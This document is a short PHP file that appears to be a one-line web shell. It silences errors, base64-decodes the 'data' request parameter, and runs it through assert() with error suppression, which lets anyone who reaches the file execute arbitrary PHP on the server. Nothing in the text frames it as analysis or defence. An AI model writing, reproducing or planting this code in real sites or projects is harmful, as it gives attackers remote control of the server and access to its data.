<?php
error_reporting(0);
$input = $_REQUEST['data'];
$code = base64_decode($input);
@assert($code);
